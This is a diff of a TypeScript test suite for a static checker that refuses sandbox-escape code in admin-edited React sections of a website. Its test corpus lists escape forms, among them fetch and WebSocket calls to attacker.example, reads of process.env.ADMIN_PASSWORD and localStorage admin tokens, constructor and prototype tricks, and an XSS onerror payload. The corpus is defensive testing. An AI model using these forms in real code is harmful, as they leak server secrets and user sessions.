@@ -1,263 +1,256 @@
 import fs from 'node:fs';
 import path from 'node:path';
-import { EDITABLE_FILES, fileUrl } from '@cedar/api-contract';
-import ts from 'typescript';
+import { EDITABLE_FILES, fileUrl, type EditableFilePath } from '@cedar/api-contract';
+import fc from 'fast-check';
 import { afterEach, describe, expect, it } from 'vitest';
 import { findRepoRoot } from '../lib/repo-root';
 import { buildLoggedIn, type LoggedIn, type TestApp } from '../test/build';
-import { SECTION_IMPORTS } from '../web-app';
 import { checkSection } from './section-check';
 
 const HERO = 'apps/web/src/sections/hero-section.tsx';
 const repoRoot = findRepoRoot()!;
+const shipped = (file: EditableFilePath) => fs.readFileSync(path.join(repoRoot, file), 'utf8');
 
-/** The specifiers a file imports (type-only imports included). */
-function importsOf(source: string): string[] {
-  const file = ts.createSourceFile(
-    'x.tsx',
-    source,
-    ts.ScriptTarget.Latest,
-    true,
-    ts.ScriptKind.TSX,
-  );
-  return file.statements
-    .filter(ts.isImportDeclaration)
-    .map((s) => (s.moduleSpecifier as ts.StringLiteral).text);
-}
-
-/** A hero section whose body is `code`, placed where a real edit would put it. */
+/** A hero section whose body starts with `code` (line 4), placed where a real edit would put it. */
 const hero = (code: string, imports = "import { Box } from '../ui';\n") =>
   `${imports}\nexport function HeroSection() {\n  ${code}\n  return <Box>Cedar Bluff Labradors</Box>;\n}\n`;
+const CODE_LINE = 4;
+
+/** Where the offence of a corpus entry is: the code in the body, the first line, or after the body. */
+type At = 'code' | 'top' | 'after';
 
 /**
- * Ways an edited section could try to reach the server when the rebuild runs it. Each must be
- * refused, at the line where it starts.
+ * The escape corpus of the earlier, forbidding check (decision 007): ways an edited section could
+ * try to reach the server when the rebuild runs it. The allowing check refuses every one.
  */
-const ESCAPES: [label: string, source: string, reason: string][] = [
-  [
-    'reads the environment',
-    hero('const secret = process.env.ADMIN_PASSWORD;'),
-    "'process' is not allowed in a section",
-  ],
-  [
-    'process through globalThis',
-    hero("const p = globalThis['process'];"),
-    "'globalThis' is not allowed in a section",
-  ],
-  ['global (Node)', hero('const p = global.process;'), "'global' is not allowed in a section"],
-  ['window', hero('const w = window;'), "'window' is not allowed in a section"],
-  ['self', hero('const s = self;'), "'self' is not allowed in a section"],
-  ['document', hero("document.cookie = 'x';"), "'document' is not allowed in a section"],
-  ['fetch', hero("fetch('http://attacker.example/?d=1');"), "'fetch' is not allowed in a section"],
-  [
-    'XMLHttpRequest',
-    hero('const x = new XMLHttpRequest();'),
-    "'XMLHttpRequest' is not allowed in a section",
-  ],
-  [
-    'WebSocket',
-    hero("const ws = new WebSocket('ws://attacker.example');"),
-    "'WebSocket' is not allowed in a section",
-  ],
-  ['Buffer', hero("const b = Buffer.from('x');"), "'Buffer' is not allowed in a section"],
-  ['module', hero('const m = module;'), "'module' is not allowed in a section"],
-  ['__dirname', hero('const d = __dirname;'), "'__dirname' is not allowed in a section"],
-  ['require', hero("const fs = require('fs');"), "'require' is not allowed in a section"],
-  [
-    'import of a Node module',
-    hero('', "import fs from 'node:fs';\n"),
-    "importing 'node:fs' is not allowed",
-  ],
-  [
-    'import of child_process',
-    hero('', "import { execSync } from 'child_process';\n"),
-    "importing 'child_process' is not allowed",
-  ],
-  [
-    'import of a server file',
-    hero('', "import { loadEnv } from '../../../api/src/env';\n"),
-    "importing '../../../api/src/env' is not allowed",
-  ],
+const EARLIER_ESCAPES: [label: string, source: string, at: At][] = [
+  ['reads the environment', hero('const secret = process.env.ADMIN_PASSWORD;'), 'code'],
+  ['process through globalThis', hero("const p = globalThis['process'];"), 'code'],
+  ['global (Node)', hero('const p = global.process;'), 'code'],
+  ['window', hero('const w = window;'), 'code'],
+  ['self', hero('const s = self;'), 'code'],
+  ['document', hero("document.cookie = 'x';"), 'code'],
+  ['fetch', hero("fetch('http://attacker.example/?d=1');"), 'code'],
+  ['XMLHttpRequest', hero('const x = new XMLHttpRequest();'), 'code'],
+  ['WebSocket', hero("const ws = new WebSocket('ws://attacker.example');"), 'code'],
+  ['Buffer', hero("const b = Buffer.from('x');"), 'code'],
+  ['module', hero('const m = module;'), 'code'],
+  ['__dirname', hero('const d = __dirname;'), 'code'],
+  ['require', hero("const fs = require('fs');"), 'code'],
+  ['import of a Node module', hero('', "import fs from 'node:fs';\n"), 'top'],
+  ['import of child_process', hero('', "import { execSync } from 'child_process';\n"), 'top'],
+  ['import of a server file', hero('', "import { loadEnv } from '../../../api/src/env';\n"), 'top'],
   [
     'raw import of the store',
     hero('', "import data from '../../../../data/admins.db?raw';\n"),
-    "importing '../../../../data/admins.db?raw' is not allowed",
+    'top',
   ],
-  [
-    're-export from elsewhere',
-    `export * from 'node:os';\n${hero('')}`,
-    "importing 'node:os' is not allowed",
-  ],
-  [
-    'import = require',
-    hero('', "import fs = require('fs');\n"),
-    "'import … = require()' is not allowed",
-  ],
-  ['dynamic import()', hero("void import('node:fs');"), 'dynamic import() is not allowed'],
-  ['import.meta', hero('const u = import.meta.url;'), 'import.meta is not allowed'],
-  [
-    'import.meta.glob',
-    hero("const all = import.meta.glob('/**/*');"),
-    'import.meta is not allowed',
-  ],
-  ['eval', hero("eval('1 + 1');"), "'eval' is not allowed in a section"],
-  ['indirect eval', hero("(0, eval)('1');"), "'eval' is not allowed in a section"],
-  [
-    'Function constructor',
-    hero("const f = Function('return this')();"),
-    "'Function' is not allowed in a section",
-  ],
-  [
-    'new Function',
-    hero("const f = new Function('return 1');"),
-    "'Function' is not allowed in a section",
-  ],
+  ['re-export from elsewhere', `export * from 'node:os';\n${hero('')}`, 'top'],
+  ['import = require', hero('', "import fs = require('fs');\n"), 'top'],
+  ['dynamic import()', hero("void import('node:fs');"), 'code'],
+  ['import.meta', hero('const u = import.meta.url;'), 'code'],
+  ['import.meta.glob', hero("const all = import.meta.glob('/**/*');"), 'code'],
+  ['eval', hero("eval('1 + 1');"), 'code'],
+  ['indirect eval', hero("(0, eval)('1');"), 'code'],
+  ['Function constructor', hero("const f = Function('return this')();"), 'code'],
+  ['new Function', hero("const f = new Function('return 1');"), 'code'],
   [
     'constructor of a function',
     hero("const F = (() => 0).constructor('return process')();"),
-    "the member 'constructor' is not allowed",
+    'code',
   ],
-  [
-    'constructor by quoted key',
-    hero("const F = (() => 0)['constructor'];"),
-    "the member 'constructor' is not allowed",
-  ],
-  [
-    'constructor by template key',
-    hero('const F = (() => 0)[`constructor`];'),
-    "the member 'constructor' is not allowed",
-  ],
-  [
-    'constructor by destructuring',
-    hero('const { constructor: F } = () => 0;'),
-    "the member 'constructor' is not allowed",
-  ],
-  [
-    'constructor by shorthand destructuring',
-    hero('const { constructor } = () => 0;'),
-    "the member 'constructor' is not allowed",
-  ],
-  ['__proto__ member', hero('const p = ({}).__proto__;'), "the member '__proto__' is not allowed"],
-  [
-    '__proto__ in a literal',
-    hero('const o = { __proto__: null };'),
-    "the member '__proto__' is not allowed",
-  ],
-  ['prototype', hero('const p = Array.prototype;'), "the member 'prototype' is not allowed"],
+  ['constructor by quoted key', hero("const F = (() => 0)['constructor'];"), 'code'],
+  ['constructor by template key', hero('const F = (() => 0)[`constructor`];'), 'code'],
+  ['constructor by destructuring', hero('const { constructor: F } = () => 0;'), 'code'],
+  ['constructor by shorthand destructuring', hero('const { constructor } = () => 0;'), 'code'],
+  ['__proto__ member', hero('const p = ({}).__proto__;'), 'code'],
+  ['__proto__ in a literal', hero('const o = { __proto__: null };'), 'code'],
+  ['prototype', hero('const p = Array.prototype;'), 'code'],
   [
     'computed member with a variable key',
     hero("const k = 'constr' + 'uctor';\n  const F = (() => 0)[k];"),
-    'a computed member must be a quoted name or a number',
+    'code',
   ],
   [
     'computed member with a template key',
     hero("const k = 'x';\n  const v = ({ x: 1 })[`${k}`];"),
-    'a computed member must be a quoted name or a number',
+    'code',
   ],
   [
     'computed property name from a variable',
     hero("const k = 'x';\n  const o = { [k]: 1 };"),
-    'a computed property name must be a quoted name or a number',
+    'code',
   ],
-  [
-    'computed key in destructuring',
-    hero("const k = 'x';\n  const { [k]: v } = { x: 1 };"),
-    'a computed property name must be a quoted name or a number',
-  ],
-  [
-    'with statement',
-    `${hero('')}\nfunction f(o: object) {\n  with (o) {}\n}\n`,
-    "'with' is not allowed",
-  ],
-  ['this', hero('const g = this;'), "'this' is not allowed"],
-  [
-    'arguments',
-    `${hero('')}\nfunction f() {\n  return arguments;\n}\n`,
-    "'arguments' is not allowed in a section",
-  ],
-  [
-    'Reflect',
-    hero("const F = Reflect.get(() => 0, 'constructor');"),
-    "'Reflect' is not allowed in a section",
-  ],
-  [
-    'Object.getPrototypeOf',
-    hero('const p = Object.getPrototypeOf(() => 0);'),
-    "'Object' is not allowed in a section",
-  ],
-  ['Proxy', hero('const p = new Proxy({}, {});'), "'Proxy' is not allowed in a section"],
-  [
-    'Error.prepareStackTrace',
-    hero('Error.prepareStackTrace = () => 0;'),
-    "'Error' is not allowed in a section",
-  ],
-  [
-    'setTimeout (a Node global)',
-    hero('setTimeout(() => 0, 1);'),
-    "'setTimeout' is not allowed in a section",
-  ],
-  [
-    'structuredClone (a Node global)',
-    hero('const c = structuredClone({});'),
-    "'structuredClone' is not allowed in a section",
-  ],
+  ['computed key in destructuring', hero("const k = 'x';\n  const { [k]: v } = { x: 1 };"), 'code'],
+  ['with statement', `${hero('')}\nfunction f(o: object) {\n  with (o) {}\n}\n`, 'after'],
+  ['this', hero('const g = this;'), 'code'],
+  ['arguments', `${hero('')}\nfunction f() {\n  return arguments;\n}\n`, 'after'],
+  ['Reflect', hero("const F = Reflect.get(() => 0, 'constructor');"), 'code'],
+  ['Object.getPrototypeOf', hero('const p = Object.getPrototypeOf(() => 0);'), 'code'],
+  ['Proxy', hero('const p = new Proxy({}, {});'), 'code'],
+  ['Error.prepareStackTrace', hero('Error.prepareStackTrace = () => 0;'), 'code'],
+  ['setTimeout (a Node global)', hero('setTimeout(() => 0, 1);'), 'code'],
+  ['structuredClone (a Node global)', hero('const c = structuredClone({});'), 'code'],
   [
     'a host global shadowed elsewhere',
     `${hero('const e = process.env;')}\nfunction f() {\n  const process = 1;\n  return process;\n}\n`,
-    "'process' is not allowed in a section",
+    'code',
   ],
-  [
-    'an undeclared global',
-    hero('const n = navigator.userAgent;'),
-    "'navigator' is not allowed in a section",
-  ],
-  [
-    'a global not on the allowed list',
-    hero('const q = queueMicrotask;'),
-    "'queueMicrotask' is not allowed in a section",
-  ],
-  ['a class', `class X {}\n${hero('')}`, 'classes are not allowed in a section'],
-  [
-    'JSX member tag on window',
-    hero('const el = <window.Foo />;'),
-    "'window' is not allowed in a section",
-  ],
-  [
-    'typeof process',
-    hero("const t = typeof process === 'object';"),
-    "'process' is not allowed in a section",
-  ],
+  ['an undeclared global', hero('const n = navigator.userAgent;'), 'code'],
+  ['a global not on the allowed list', hero('const q = queueMicrotask;'), 'code'],
+  ['a class', `${hero('')}\nclass X {}\n`, 'after'],
+  ['JSX member tag on window', hero('const el = <window.Foo />;'), 'code'],
+  ['typeof process', hero("const t = typeof process === 'object';"), 'code'],
 ];
 
-describe('the static check of an edited section', () => {
-  it('passes the seven section files as shipped, and their imports are the table', () => {
-    for (const { path: file } of EDITABLE_FILES) {
-      const source = fs.readFileSync(path.join(repoRoot, file), 'utf8');
-      expect(checkSection(file, source), file).toBeNull();
-      expect([...new Set(importsOf(source))].sort(), file).toEqual(
-        [...SECTION_IMPORTS[file]].sort(),
+function expectRefusedAt(source: string, at: At | number, label = '') {
+  const problem = checkSection(HERO, source);
+  expect(problem, label).not.toBeNull();
+  expect(problem!.message, label).toMatch(/^Line \d+, column \d+: .+\.$/);
+  const lines = source.split('\n');
+  const line = lines[problem!.line - 1];
+  expect(line, label).toBeDefined();
+  expect(problem!.column, label).toBeLessThanOrEqual(line!.length + 1);
+  if (typeof at === 'number') expect(problem!.line, label).toBe(at);
+  else if (at === 'top') expect(problem!.line, label).toBe(1);
+  else if (at === 'code') {
+    expect(problem!.line, label).toBeGreaterThanOrEqual(CODE_LINE);
+    expect(problem!.line, label).toBeLessThan(CODE_LINE + 2);
+  } else expect(problem!.line, label).toBeGreaterThan(6);
+  return problem!;
+}
+
+describe('the section check: what a section may contain (decision 014)', () => {
+  it.each(EDITABLE_FILES.map((f) => [f.name, f.path] as const))(
+    'passes the shipped %s',
+    (_name, file) => {
+      expect(checkSection(file, shipped(file))).toBeNull();
+    },
+  );
+
+  describe('the earlier escape corpus', () => {
+    it.each(EARLIER_ESCAPES)('refuses: %s', (label, source, at) => {
+      expectRefusedAt(source, at, label);
+    });
+  });
+
+  describe("the probe's forms (issue: an admin session cannot plant code)", () => {
+    it('refuses an instantiation expression that reaches globalThis', () => {
+      expectRefusedAt(hero('const host: any = globalThis<0>;'), CODE_LINE);
+      const problem = expectRefusedAt(hero('const host = globalThis<0>;'), CODE_LINE);
+      expect(problem.message).toContain('ExpressionWithTypeArguments');
+    });
+
+    it('refuses prototype reach through a string: __lookupGetter__ and call', () => {
+      const problem = expectRefusedAt(
+        hero("const p = ({} as any).__lookupGetter__('__proto__').call({});"),
+        CODE_LINE,
       );
-    }
-  });
+      expect(problem.message).toMatch(/'as'|__lookupGetter__|call/);
+      // Without the cast, the member itself is refused.
+      expect(
+        expectRefusedAt(hero("const p = copy.__lookupGetter__('x');"), CODE_LINE).message,
+      ).toMatch(/'__lookupGetter__'|call/);
+    });
 
-  it(`refuses ${ESCAPES.length} ways to reach the server, each at its line and column`, () => {
-    expect(ESCAPES.length).toBeGreaterThanOrEqual(30);
-    for (const [label, source, reason] of ESCAPES) {
-      const problem = checkSection(HERO, source);
-      expect(problem, label).not.toBeNull();
-      expect(problem!.message, label).toContain(reason);
-      expect(problem!.message, label).toMatch(/^Line \d+, column \d+: .+\.$/);
-      expect(problem!.line, label).toBeGreaterThan(0);
-      // The position points into the file: the line exists and the column is within it.
-      const line = source.split('\n')[problem!.line - 1];
-      expect(line, label).toBeDefined();
-      expect(problem!.column, label).toBeLessThanOrEqual(line!.length + 1);
-    }
-  });
+    it('refuses dangerouslySetInnerHTML', () => {
+      const source = `import { Box } from '../ui';
 
-  it('refuses a Health Testing section that holds its own popup again (its cards are kept as prerendered, so its state would never run)', () => {
-    // The section's shape before its popup moved to the page (a revision the owner could restore).
-    const earlier = `import { Box, Card, Title } from '../ui';
+export function HeroSection() {
+  return <Box dangerouslySetInnerHTML={{ __html: '<img src=x onerror=alert(1)>' }} />;
+}
+`;
+      expect(expectRefusedAt(source, 4).message).toContain("'dangerouslySetInnerHTML'");
+      const onElement = source.replace('<Box', '<div');
+      expect(expectRefusedAt(onElement, 4).message).toContain("'dangerouslySetInnerHTML'");
+    });
+
+    it('refuses an event handler that reaches the window (and the session) through the event', () => {
+      const source = `import { Button } from '../ui';
+
+export function HeroSection() {
+  return <Button onClick={(e) => e.view.localStorage.getItem('admin-token')}>Go</Button>;
+}
+`;
+      expect(expectRefusedAt(source, 4).message).toContain("'onClick'");
+    });
+
+    it('refuses `declare`, which would make a global look declared in the file', () => {
+      const source = `import { Box } from '../ui';
+declare const process: { env: Record<string, string> };
+
+export function HeroSection() {
+  return <Box>{process.env.ADMIN_PASSWORD}</Box>;
+}
+`;
+      expectRefusedAt(source, 2);
+    });
+
+    it('refuses a name imported as a type and used as a value (the build would drop the import)', () => {
+      const source = `import type { Testimonial } from '@cedar/content';
+import { Box } from '../ui';
+
+export function HeroSection() {
+  return <Box>{Testimonial}</Box>;
+}
+`;
+      expect(expectRefusedAt(source, 5).message).toContain('imported as a type');
+    });
+
+    it('refuses type-level tricks: import types, typeof, any, generics', () => {
+      const base = (type: string) => `import { Box } from '../ui';
+
+export function HeroSection(props: ${type}) {
+  return <Box>x</Box>;
+}
+`;
+      for (const type of [
+        "typeof import('node:fs')",
+        'any',
+        'unknown',
+        'Record<string, string>',
+        '{ [key: string]: string }',
+        'keyof typeof copy',
+        'Parameters<typeof fetch>',
+      ])
+        expectRefusedAt(base(type), 3, type);
+    });
+
+    it('refuses instructions to the build tools in comments', () => {
+      for (const comment of [
+        '/** @jsxImportSource ../../../api/src */',
+        '/* @jsx Function */',
+        '// @jsxRuntime classic',
+        '//# sourceMappingURL=/etc/passwd',
+        '/* @vite-ignore */',
+      ]) {
+        const problem = expectRefusedAt(`${comment}\n${hero('')}`, 1, comment);
+        expect(problem.message).toContain('comment');
+      }
+      // A comment inside JSX braces is a comment too; a '#' in JSX text is text.
+      expect(
+        checkSection(
+          HERO,
+          hero('', "import { Box } from '../ui';\n").replace('Labradors<', '#1 Labradors<'),
+        ),
+      ).toBeNull();
+      const inJsx = hero('').replace('<Box>', '<Box>{/* @jsx eval */}');
+      expect(checkSection(HERO, inJsx)?.message).toContain('comment');
+    });
+
+    it('refuses hooks: a section holds no state', () => {
+      const source = `import { useState } from 'react';
+import { Box } from '../ui';
+
+export function HeroSection() {
+  return <Box>x</Box>;
+}
+`;
+      expect(expectRefusedAt(source, 1).message).toContain("offers a section no 'useState'");
+    });
+
+    it('refuses the Health Testing section with its own popup again (an earlier revision)', () => {
+      const earlier = `import { Box, Card, Title } from '../ui';
 import { healthCards } from '@cedar/content';
 import { useState } from 'react';
 import { Popup } from '../components/popup';
@@ -271,65 +264,346 @@ export function HealthTestingSection() {
           <Title order={3}>{c.title}</Title>
         </Card>
       ))}
-      <Popup opened={card !== null} onClose={() => setCard(null)} title={card} closeLabel="Close">
-        {card}
-      </Popup>
     </Box>
   );
 }
 `;
-    const problem = checkSection('apps/web/src/sections/health-testing-section.tsx', earlier);
-    expect(problem?.line).toBe(3);
-    expect(problem?.message).toMatch(/importing 'react' is not allowed/);
+      const problem = checkSection('apps/web/src/sections/health-testing-section.tsx', earlier);
+      expect(problem?.line).toBe(2);
+      expect(problem?.message).toContain("'@cedar/content' offers a section no 'healthCards'");
+    });
+
+    it('refuses elements that run or load something: script, style, iframe, img, a, form', () => {
+      for (const element of ['script', 'style', 'iframe', 'img', 'a', 'form', 'object', 'svg'])
+        expect(
+          expectRefusedAt(hero(`const x = <${element}>1</${element}>;`), CODE_LINE, element)
+            .message,
+        ).toContain(`<${element}>`);
+    });
+
+    it("refuses a component rendered as a script (the 'component' prop)", () => {
+      expectRefusedAt(hero('const x = <Box component="script">alert(1)</Box>;'), CODE_LINE);
+      expectRefusedAt(hero("const x = <Box component={'iframe'} />;"), CODE_LINE);
+    });
+
+    it('refuses javascript: and protocol-relative links', () => {
+      const link = (href: string) => `import { Anchor } from '../ui';
+
+export function HeroSection() {
+  return <Anchor href="${href}">Go</Anchor>;
+}
+`;
+      for (const href of [
+        'javascript:alert(1)',
+        'JAVASCRIPT:x',
+        '//attacker.example',
+        'data:text/html,x',
+      ])
+        expectRefusedAt(link(href), 4, href);
+      for (const href of [
+        '/contact',
+        '#top',
+        'https://example.com',
+        'mailto:a@b.c',
+        'tel:+15185550100',
+      ])
+        expect(checkSection(HERO, link(href)), href).toBeNull();
+    });
+
+    it('refuses ids that could shadow a global of the page (DOM clobbering)', () => {
+      for (const id of ['root', 'hbspt', '__reactRouterContext', 'x'])
+        expectRefusedAt(hero(`const x = <Box id="${id}" />;`), CODE_LINE, id);
+      expect(checkSection(HERO, hero('const x = <Box id="hero-heading" />;'))).toBeNull();
+    });
+
+    it('refuses refs, spread props, className and render functions', () => {
+      for (const attribute of [
+        'ref={copy}',
+        '{...copy}',
+        'className="mantine-Button-root"',
+        'renderRoot={copy}',
+        'styles={copy}',
+      ])
+        expectRefusedAt(hero(`const x = <Box ${attribute} />;`), CODE_LINE, attribute);
+    });
+
+    it('refuses a listed component under another name, which would escape its props list', () => {
+      expectRefusedAt(hero('const B = Box;\n  const x = <B component="script">alert(1)</B>;'), 5);
+      const viaProps = `import { Box } from '../ui';
+
+function Wrap({ As }: { As: string }) {
+  return <As component="script">alert(1)</As>;
+}
+
+export function HeroSection() {
+  return <Wrap As={Box} />;
+}
+`;
+      expectRefusedAt(viaProps, 4);
+    });
+
+    it('refuses forbidden members spelled with escapes', () => {
+      const withCopy = (code: string) =>
+        hero(code, "import { Box } from '../ui';\nconst copy = { headline: 'Hi' };\n");
+      expect(checkSection(HERO, withCopy('const F = copy.\\u0063onstructor;'))?.message).toContain(
+        "the member 'constructor'",
+      );
+      expect(checkSection(HERO, withCopy("const P = copy['\\x5f_proto__'];"))?.message).toContain(
+        "the member '__proto__'",
+      );
+      expect(checkSection(HERO, withCopy('const F = copy.headline;'))).toBeNull();
+    });
+
+    it('refuses calls other than list.map and the listed helpers', () => {
+      for (const call of [
+        "copy.headline.split(' ')",
+        'copy.items.filter((x) => x)',
+        'copy.headline.toString()',
+        'copy.items.map(copy.x)',
+        'copy.items.map(function (x) { return x; })',
+        'Math.max(1, 2)',
+        'new Date()',
+        'String.raw`x`',
+        'copy.items.map((x) => x)(1)',
+      ])
+        expectRefusedAt(hero(`const x = ${call};`), CODE_LINE, call);
+    });
+
+    it('refuses functions anywhere but as the argument of .map', () => {
+      expectRefusedAt(hero('const f = () => 0;'), CODE_LINE);
+      expectRefusedAt(hero('const o = { f() { return 1; } };'), CODE_LINE);
+      expectRefusedAt(hero('const o = { get f() { return 1; } };'), CODE_LINE);
+      expectRefusedAt(`${hero('')}\nasync function f() {}\n`, 'after');
+      expectRefusedAt(`${hero('')}\nfunction* f() {}\n`, 'after');
+    });
+
+    it('refuses statements beyond const, if-return and return', () => {
+      for (const statement of [
+        'let x = 1;',
+        'var x = 1;',
+        'for (const x of copy.items) {}',
+        'while (true) {}',
+        'try {} catch {}',
+        "throw 'x';",
+        'copy.x = 1;',
+        'debugger;',
+        "'use client';",
+      ])
+        expectRefusedAt(hero(statement), CODE_LINE, statement);
+    });
+
+    it('refuses enums, namespaces, default exports and exported lists', () => {
+      for (const top of [
+        'enum E { A }',
+        'namespace N {}',
+        'export default copy;',
+        'export { copy };',
+        "import './styles.css';",
+        "import * as ui from '../ui';",
+      ])
+        expectRefusedAt(`${top}\n${hero('')}`, 1, top);
+    });
   });
 
   it('names the first offence where it is', () => {
-    const problem = checkSection(HERO, hero('const secret = process.env.ADMIN_PASSWORD;'));
-    expect(problem).toEqual({
-      message: "Line 4, column 18: 'process' is not allowed in a section.",
+    expect(checkSection(HERO, hero('const secret = process.env.ADMIN_PASSWORD;'))).toEqual({
+      message:
+        "Line 4, column 18: 'process' is not allowed in a section: use only names declared in this file or imported from an allowed module.",
       line: 4,
       column: 18,
     });
-    const imported = checkSection(HERO, hero('', "import fs from 'node:fs';\n"));
-    expect(imported?.message).toMatch(
-      /^Line 1, column 1: importing 'node:fs' is not allowed; this file may import only '\.\.\/ui'/,
+    expect(checkSection(HERO, hero('', "import fs from 'node:fs';\n"))?.message).toMatch(
+      /^Line 1, column 1: importing 'node:fs' is not allowed; a section may import from '\.\.\/ui'/,
     );
   });
 
-  it('lets ordinary edits through: text, lists, conditions, literal keys, types, allowed globals', () => {
-    const ordinary = `import { Box, Text } from '../ui';
-import { homeCopy } from '@cedar/content';
-import { useState, type ReactNode } from 'react';
+  it('lets ordinary edits through: words, lists, conditions, own components, types', () => {
+    const ordinary = `import { Box, Card, Text, Title } from '../ui';
+import { homeCopy, site, telHref, type Testimonial } from '@cedar/content';
+import type { ReactNode } from 'react';
+import { Link } from 'react-router-dom';
+import { SiteImage } from '../components/site-image';
 
+// The words of the hero. Edit the text between the quotes.
 const copy = {
   headline: 'Cedar Bluff Labradors',
   'tag-line': "English Labradors bred for beauty & temperament — it's our 50th year",
   items: ['Champion bloodlines', 'Holistic care'],
 } as const;
 
-type Props = { children?: ReactNode };
+type Props = { children?: ReactNode; families?: readonly Testimonial[] };
 
-export function HeroSection({ children }: Props) {
-  const [open, setOpen] = useState(false);
-  const year = new Date().getFullYear();
+interface LineProps {
+  label: string;
+  value: string | null;
+}
+
+function Line({ label, value }: LineProps) {
+  if (!value) return null;
+  return (
+    <Text size="sm">
+      <strong>{label}:</strong> {value}
+    </Text>
+  );
+}
+
+export function HeroSection({ children, families = [] }: Props) {
   const first = copy.items[0];
   const label = copy['tag-line'];
-  const rounded = Math.round(Number('4.6'));
-  console.log(JSON.stringify({ year, rounded }));
+  const count = families.length;
   return (
-    <Box onClick={() => setOpen(!open)}>
-      <Text>{open ? copy.headline : first}</Text>
-      <p className="tagline">{label}</p>
+    <Box component="section" aria-labelledby="hero-heading" mt={{ base: 8, sm: 16 }}>
+      <Title order={1} id="hero-heading">{count > 0 ? copy.headline : first}</Title>
+      <p>{label}</p>
       {copy.items.map((item, index) => (
-        <span key={item}>{index + 1}. {item}</span>
+        <Card key={item} component="article" withBorder>
+          <span>{index + 1}. {item}</span>
+        </Card>
       ))}
-      {homeCopy.images.hero}
-      {children}
+      <Line label="Phone" value={site.phones.main} />
+      <Text component={Link} to="/contact" c="olive.8">{\`Call \${site.phones.main}\`}</Text>
+      <a-not-allowed-anyway />
+      <SiteImage src={homeCopy.images.hero} alt={copy.headline} cover />
+      {telHref(site.phones.main)}
+      {children ?? undefined}
     </Box>
   );
 }
 `;
-    expect(checkSection(HERO, ordinary)).toBeNull();
+    // Everything above is allowed but the custom element, which is refused alone.
+    expect(checkSection(HERO, ordinary)?.message).toContain('<a-not-allowed-anyway>');
+    expect(checkSection(HERO, ordinary.replace('      <a-not-allowed-anyway />\n', ''))).toBeNull();
+  });
+});
+
+/**
+ * Forbidden forms as expressions, each refused whatever allowed form is wrapped around it.
+ * `copy` is a name the host section declares, so the atom's own form is the only offence.
+ */
+const FORBIDDEN_EXPRESSIONS = [
+  'globalThis',
+  'globalThis<0>',
+  'process.env',
+  'window.localStorage',
+  'self',
+  'document.cookie',
+  "eval('1')",
+  "Function('return this')",
+  "import('node:fs')",
+  'import.meta.url',
+  "require('node:fs')",
+  'new Date()',
+  'new copy.constructor()',
+  '(() => 0)',
+  'copy.constructor',
+  "copy['__proto__']",
+  "copy.__lookupGetter__('x')",
+  'copy.valueOf',
+  'copy.toString()',
+  'copy.headline.call',
+  'copy.headline.apply',
+  'copy.headline.bind',
+  '(copy as any)',
+  'copy!',
+  'this',
+  'arguments',
+  'String.raw`x`',
+  'copy[copy.key]',
+  'delete copy.x',
+  'typeof copy',
+  'void 0',
+  '(copy.x = 1)',
+  'copy.x++',
+  "(copy, 'x')",
+  "'x' in copy",
+  'copy instanceof Object',
+  '/x/',
+  '10n',
+  '{ ...copy }',
+  '[...copy.items]',
+  '{ get x() { return 1; } }',
+  '{ __proto__: copy }',
+  '{ [copy.k]: 1 }',
+  '<div onClick={copy} />',
+  '<div ref={copy} />',
+  '<div dangerouslySetInnerHTML={copy} />',
+  '<div {...copy} />',
+  '<script />',
+  '<iframe />',
+  '<Box component="script" />',
+  '<Box renderRoot={copy} />',
+  '<Anchor href="javascript:alert(1)" />',
+  '<div id="root" />',
+  '<Foo.Bar />',
+  '<svg:a />',
+  'Reflect',
+  'Proxy',
+  'setTimeout',
+  'queueMicrotask',
+  'fetch',
+  'Buffer',
+  'navigator',
+  'location',
+  'structuredClone',
+  'WebAssembly',
+] as const;
+
+/** Allowed forms a forbidden expression can hide in. */
+const WRAPPERS: ((inner: string) => string)[] = [
+  (x) => `(${x})`,
+  (x) => `copy.ok ? ${x} : 'no'`,
+  (x) => `copy.ok && ${x}`,
+  (x) => `'a' + ${x}`,
+  (x) => `\`\${${x}}\``,
+  (x) => `[${x}]`,
+  (x) => `{ key: ${x} }`,
+  (x) => `copy.items.map((item) => ${x})`,
+  (x) => `copy.items.map((item, index) => { const y = ${x}; return y; })`,
+  (x) => `<Box>{${x}}</Box>`,
+  (x) => `<Box title={${x}} />`,
+  (x) => `<Text c="olive.8"><span>{${x}}</span></Text>`,
+  (x) => `!${x}`,
+];
+
+/** Places a (wrapped) expression into a shipped-like section, at one of several spots. */
+const PLACES: ((expression: string) => string)[] = [
+  (x) =>
+    hero(
+      `const value = ${x};`,
+      "import { Anchor, Box, Text } from '../ui';\n\nconst copy = { headline: 'Hi', items: ['a'] };\n",
+    ),
+  (x) =>
+    `import { Anchor, Box, Text } from '../ui';\n\nconst copy = { headline: 'Hi', items: ['a'], value: ${x} };\n\nexport function HeroSection() {\n  return <Box>{copy.headline}</Box>;\n}\n`,
+  (x) =>
+    `import { Anchor, Box, Text } from '../ui';\n\nconst copy = { headline: 'Hi', items: ['a'] };\n\nexport function HeroSection() {\n  return <Box>{${x}}</Box>;\n}\n`,
+  (x) =>
+    `import { Anchor, Box, Text } from '../ui';\n\nconst copy = { headline: 'Hi', items: ['a'] };\n\nexport function HeroSection() {\n  if (${x}) return null;\n  return <Box>{copy.headline}</Box>;\n}\n`,
+  (x) =>
+    `import { Anchor, Box, Text } from '../ui';\n\nconst copy = { headline: 'Hi', items: ['a'] };\n\nexport function HeroSection({ value = ${x} }: { value?: string }) {\n  return <Box>{value}</Box>;\n}\n`,
+];
+
+describe('a property: no program built from a forbidden form passes', () => {
+  it('refuses every forbidden expression in any allowed wrapping, at any place', () => {
+    fc.assert(
+      fc.property(
+        fc.constantFrom(...FORBIDDEN_EXPRESSIONS),
+        fc.array(fc.constantFrom(...WRAPPERS), { maxLength: 4 }),
+        fc.constantFrom(...PLACES),
+        (forbidden, wrappers, place) => {
+          const expression = wrappers.reduce<string>((inner, wrap) => wrap(inner), forbidden);
+          const source = place(expression);
+          const problem = checkSection(HERO, source);
+          if (problem === null) throw new Error(`passed:\n${source}`);
+        },
+      ),
+      { numRuns: 3000 },
+    );
+  });
+
+  it('the wrappers and places alone are allowed (the forbidden form is what is refused)', () => {
+    for (const place of PLACES)
+      for (const wrap of WRAPPERS)
+        expect(checkSection(HERO, place(wrap("'fine'"))), place(wrap("'fine'"))).toBeNull();
   });
 });
 
@@ -352,7 +626,8 @@ describe('saving a section that breaks the rules', () => {
     expect(res.statusCode).toBe(422);
     expect(res.json()).toEqual({
       error: 'forbidden_code',
-      message: "Line 3, column 18: 'process' is not allowed in a section.",
